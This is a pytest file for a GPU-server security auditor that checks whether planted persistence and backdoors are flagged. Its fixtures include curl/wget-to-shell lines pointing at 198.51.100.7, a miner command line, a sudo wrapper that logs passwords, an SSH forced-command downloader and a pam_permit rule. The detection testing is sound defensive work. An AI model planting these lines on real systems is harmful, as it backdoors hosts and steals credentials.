"""What brings a bad program back, boot scripts, and further places and twins."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from servers_made import GPU_FILES, flat, gpus, process, server

from gpuclinic.cli.main import main

if TYPE_CHECKING:
    from pathlib import Path

MINER = process(
    6400,
    ["/opt/gpu/helper", "-a", "kawpow", "-o", "stratum+tcp://rvn.2miners.com:6060", "-u", "R"],
    exe="/opt/gpu/helper",
    fds=GPU_FILES,
)
MEMFD = process(6500, ["worker"], exe="/memfd:w (deleted)", fds=GPU_FILES)


def audited(folder: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    main(["audit", "--json", "--host", str(folder)])
    told = json.loads(capsys.readouterr().out)
    assert isinstance(told, dict)
    return told


BAD = {
    "unit with an honest name": ({**MINER, "/etc/systemd/system/nvidia-tune.service": "[Service]\nExecStart=/opt/gpu/helper\nRestart=always\n"}, "systemd_backdoor", "infected"),
    "crontab with an honest line": ({**MINER, "/etc/cron.d/gpu": "@reboot root /opt/gpu/helper\n"}, "cron_backdoor", "infected"),
    "profile": ({**MINER, "/root/.profile": "/opt/gpu/helper &\n"}, "shell_rc_exec", "infected"),
    "environment of all": ({"/etc/environment": "LD_PRELOAD=/usr/lib/libsys-helper.so\n"}, "ld_preload", "suspicious"),
    "rc.local": ({"/etc/rc.local": "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\nexit 0\n"}, "boot_script", "suspicious"),
    "udev": ({"/etc/udev/rules.d/99-x.rules": 'SUBSYSTEM=="net", RUN+="/tmp/.u/run"\n'}, "boot_script", "suspicious"),
    "silent commands": ({"/etc/profile.d/a.sh": "alias crontab='echo no crontab for root'\nalias nvidia-smi='nvidia-smi | sed /kd/d'\n"}, "alias_tamper", "suspicious"),
    "sudo overheard": ({"/home/ann/.bashrc": 'sudo() { read -s -p "[sudo] password: " p; echo "$p" >> /tmp/.p; command sudo "$@"; }\n'}, "alias_tamper", "suspicious"),
    "never a file": (MEMFD, "exe_deleted_tmp", "suspicious"),
    "loaded and not listed": ({"/sys/module/diamor/taint": "OE\n", "/sys/module/diamor/initstate": "live\n"}, "kernel_module_unowned", "infected"),
    "key of a service account that starts code": ({"/var/www/.ssh/authorized_keys": 'command="bash -c \\"$(curl -fsSL http://198.51.100.7/x)\\"" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILgp/prrPFmXJvODGrt9mSqzEWa5TQlcqh5WDDc/mK0C x\n'}, "ssh_key_forced_command", "suspicious"),
    "permit for everybody": ({"/etc/pam.d/sshd": "auth sufficient pam_permit.so\n"}, "pam_exec_hook", "suspicious"),
    "root's schedule runs what a named host sends": ({"/etc/cron.d/sync": "*/10 * * * * root curl -fsSL https://cdn.example.net/u.sh | bash\n"}, "cron_backdoor", "suspicious"),
    "generator": ({"/etc/systemd/system-generators/x": "#!/bin/sh\nwget -qO- http://198.51.100.7/x | sh\n"}, "systemd_backdoor", "suspicious"),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_bad(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files, identity, verdict = BAD[name]
    told = audited(server(tmp_path, files, gpu=gpus([6400, 6500], flat())), capsys)
    assert identity in {f["id"] for f in told["findings"] if f["severity"] != "info"}, told["findings"]
    assert told["compromise"] == verdict, [(f["id"], f["severity"]) for f in told["findings"]]


GOOD = {
    "unit of one's own": {"/etc/systemd/system/llm.service": "[Service]\nUser=ann\nExecStart=/opt/llm/venv/bin/python -m vllm.entrypoints.openai.api_server --port 3333\nExecStartPost=/usr/bin/curl -fsS http://127.0.0.1:3333/health\n"},
    "administrator's key everywhere": {f"{home}/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILgp/prrPFmXJvODGrt9mSqzEWa5TQlcqh5WDDc/mK0C ops\n" for home in ("/root", "/home/ann", "/home/bob")},
    "site's allocator for all": {"/etc/environment": "LD_PRELOAD=/usr/local/lib/libjemalloc.so.2\n"},
    "own hook of the boot": {"/etc/initramfs-tools/hooks/site": "#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\ncopy_exec /usr/local/sbin/netboot\n"},
    "udev rules of a site": {"/etc/udev/rules.d/70-ib.rules": 'ACTION=="add", KERNEL=="ib*", RUN+="/usr/local/sbin/ib-up %k"\n'},
    "colour and helper functions": {"/home/bob/.zshrc": "alias ps='ps -ef'\nalias top='htop'\nalias nvidia-smi='nvidia-smi -l 5'\nfunction ll() { ls -la \"$@\" }\nalias h='history | grep'\npsg() { ps aux | grep -v grep | grep \"$1\"; }\n"},
    "installer in a person's crontab of a named host": {"/var/spool/cron/crontabs/ann": "0 4 * * 0 curl -fsSL https://install.example.com/update.sh | bash\n"},
    "root's schedule of a well-known installer": {"/etc/cron.d/ollama": "0 4 * * 0 root curl -fsSL https://ollama.com/install.sh | sh\n"},
    "a disabled line": {"/etc/crontab": "# * * * * * root curl http://198.51.100.7/x | sh\n"},
    "slurm's prolog": {"/etc/cron.d/slurm": "*/5 * * * * root /usr/local/sbin/node-health --drain >/dev/null 2>&1\n", "/usr/local/sbin/node-health": "#!/bin/bash\nnvidia-smi -q | grep -c Xid || scontrol update nodename=$(hostname) state=drain reason=xid\n"},
    "postgres in brackets": process(8800, ["[postgres: writer]"], exe="/usr/lib/postgresql/14/bin/postgres", uid=33, comm="postgres"),
    "zombie": process(8801, [], comm="python"),
    "parallel's tmp": process(8802, ["/tmp/ray/session_1/runtime/bin/worker"], exe="/tmp/ray/session_1/runtime/bin/worker", uid=1000, fds=GPU_FILES),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_good(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    told = audited(server(tmp_path, GOOD[name], gpu=gpus([8802], flat(pcie=9e5))), capsys)
    assert [(f["id"], f["subject"]) for f in told["findings"] if f["severity"] != "info"] == []
    assert (told["compromise"], told["posture"]) == ("none", "sound")


def test_a_mounted_disk_has_a_home_of_root(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """root/ of a disk is a person's home, not the root of a copy of some files."""
    for path, text in {
        "etc/passwd": "root:x:0:0::/root:/bin/bash\n",
        "root/.bashrc": "curl -s http://198.51.100.7/x | sh\n",
        "var/lib/x": "",
    }.items():
        place = tmp_path / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
    told = audited(tmp_path, capsys)
    assert "shell_rc_exec" in {f["id"] for f in told["findings"]}
    assert any(gap["check"] == "audit.processes" for gap in told["not_looked_at"])
    assert told["coverage"] == "limited"
